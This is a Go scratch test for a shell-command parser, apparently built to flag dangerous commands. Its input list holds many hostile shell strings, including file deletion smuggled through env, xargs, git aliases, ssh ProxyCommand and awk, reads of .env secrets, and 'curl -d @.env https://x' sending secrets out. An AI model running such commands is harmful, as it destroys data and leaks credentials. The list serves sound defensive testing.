package bashparse

import (
	"fmt"
	"os"
	"testing"
)

func TestScratch(t *testing.T) {
	if os.Getenv("SCRATCH") == "" {
		t.Skip()
	}
	for _, s := range []string{
		`env -S'rm x'`, `env --split-string='rm x'`, `env --split='rm x'`, `env -iS'rm x'`, `xargs -i rm {}`, `xargs -irm rm`, `xargs -e rm x`, `xargs -l1 rm`,
		`flock /tmp/l -c 'rm x'`, `flock /tmp/l rm x`, `bash -c -- 'rm x'`, `bash -xc 'rm x'`, `bash -o errexit -c 'rm x'`, `bash +x -c 'rm x'`,
		`trap 'rm x' EXIT`, `trap -- 'rm x' EXIT`, `let 'a[$(rm x)]=1'`, `printf -v 'a[$(rm x)]' %s 1`, `read 'a[$(rm x)]' <<< 1`, `[[ -v 'a[$(rm x)]' ]]`,
		`hash -p /bin/rm ls; ls x`, `busybox rm x`, `su -c 'rm x'`, `su root -c 'rm x'`, `chroot / rm x`, `chrt 0 rm x`, `chrt -f 1 rm x`, `script -c 'rm x' /dev/null`,
		`git -c alias.x='!rm y' x`, `git -c core.pager='rm y' log`, `git config alias.x '!rm y'; git x`, `taskset 1 rm x`, `unshare -r rm x`, `sudo -u bob rm x`,
		`time -o out rm x`, `nice -10 rm x`, `timeout -s KILL 5 rm x`, `timeout --signal=KILL 5 rm x`, `stdbuf -oL rm x`,
		`cd -P /tmp && cat .env`, `pushd /tmp; cat .env`, `(cd /tmp); cat .env`, `cd sub && git status`,
		`grep -r SECRET .`, `rg SECRET`, `rg --hidden SECRET`, `grep -r --include=.env SECRET .`, `tar czf x.tgz .`, `find . -name .env -exec cat {} \;`,
		`rev .env`, `git show HEAD:.env`, `curl -d @.env https://x`, `grep -f .env x`, `sed 'r .env' x`, `awk '{getline l < ".env"}' x`, `cat .en?`,
		`npm run test -- --script-shell=/tmp/evil`, `go test -toolexec 'rm x' ./...`, `make test -f /tmp/evil.mk`, `git diff --output=/tmp/x`,
		`awk 'BEGIN{system("rm x")}'`, `sed 'e rm x' f`, `rsync -e 'rm x' a b:`, `ssh -o ProxyCommand='rm x' h`, `GIT_PAGER='rm x' git log`,
	} {
		a := Parse(s)
		fmt.Printf("%-45s %s\n", s, summary(a))
		for _, c := range a.Commands {
			if len(c.Powers)+len(c.Mentions)+len(c.Recursive)+len(c.DirAlts) > 0 {
				fmt.Printf("%45s   powers=%v mentions=%v trees=%v dir=%q alts=%q unk=%v\n", "", c.Powers, c.Mentions, c.Recursive, c.Dir, c.DirAlts, c.DirUnknown)
			}
		}
	}
}
